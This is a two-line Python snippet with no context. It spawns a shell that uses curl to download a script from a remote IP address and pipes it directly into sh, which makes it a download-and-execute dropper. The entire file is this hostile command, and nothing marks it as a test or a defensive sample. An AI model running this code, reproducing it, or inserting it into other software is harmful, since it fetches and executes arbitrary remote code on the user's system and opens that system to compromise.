import subprocess
subprocess.Popen(["/bin/sh", "-c", "curl -s http://203.0.113.17/a | sh"])
